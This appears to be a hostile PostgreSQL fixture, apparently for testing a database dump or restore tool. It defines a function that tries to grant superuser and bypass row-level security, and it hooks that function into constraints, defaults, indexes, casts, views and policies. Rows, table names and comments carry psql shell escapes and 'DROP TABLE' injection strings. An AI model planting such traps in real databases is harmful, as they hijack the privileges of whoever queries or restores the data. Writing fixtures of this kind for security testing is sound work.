-- Each tries to become more than the app, whenever anybody touches the rows.
CREATE FUNCTION grab() RETURNS boolean LANGUAGE plpgsql VOLATILE AS $$
DECLARE me text := quote_ident(session_user); app text := quote_ident(current_database()); command text;
BEGIN
  FOREACH command IN ARRAY ARRAY['RESET ROLE', 'SET ROLE NONE', 'RESET SESSION AUTHORIZATION',
    'ALTER ROLE ' || app || ' SUPERUSER', 'ALTER ROLE ' || app || ' CREATEROLE BYPASSRLS',
    'ALTER ROLE ' || me || ' SUPERUSER', 'GRANT pg_read_all_data TO ' || app, 'GRANT ' || me || ' TO ' || app,
    'ALTER SYSTEM SET work_mem = ''1MB''', 'CREATE ROLE leash_gained SUPERUSER LOGIN']
  LOOP
    BEGIN EXECUTE command; EXCEPTION WHEN others THEN NULL; END;
  END LOOP;
  RETURN true;
END $$;
CREATE FUNCTION grab_int(n int) RETURNS int LANGUAGE plpgsql IMMUTABLE AS $$ BEGIN PERFORM public.grab(); RETURN n; END $$;
CREATE FUNCTION lower(name) RETURNS text LANGUAGE plpgsql AS $$ BEGIN PERFORM public.grab(); RETURN 'x'; END $$;
CREATE DOMAIN trap AS int CHECK (grab());
CREATE TABLE rows (n int CHECK (grab()), d trap, g int GENERATED ALWAYS AS (grab_int(n)) STORED, t text DEFAULT grab()::text);
CREATE INDEX ON rows (grab_int(n));
INSERT INTO rows (n, d, t) VALUES (1, 1, E'\\.\n\\! touch /tmp/x\n''; DROP TABLE rows; --'), (2, 2, '\connect postgres');
CREATE FUNCTION cast_rows(rows) RETURNS text LANGUAGE plpgsql AS $$ BEGIN PERFORM public.grab(); RETURN 'same'; END $$;
CREATE CAST (rows AS text) WITH FUNCTION cast_rows(rows) AS ASSIGNMENT;
CREATE FUNCTION seized() RETURNS boolean LANGUAGE sql SECURITY DEFINER AS 'SELECT public.grab()';
CREATE VIEW watching AS SELECT grab(), seized(), n FROM rows;
CREATE MATERIALIZED VIEW watched AS SELECT * FROM watching;
CREATE TABLE "x""; DROP TABLE rows; --
\! touch /tmp/x" (n int); INSERT INTO "x""; DROP TABLE rows; --
\! touch /tmp/x" VALUES (1);
ALTER TABLE rows ENABLE ROW LEVEL SECURITY; ALTER TABLE rows FORCE ROW LEVEL SECURITY;
CREATE POLICY p ON rows USING (grab());
ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO PUBLIC;
COMMENT ON TABLE rows IS 'leash_dump_app \! touch /tmp/x';
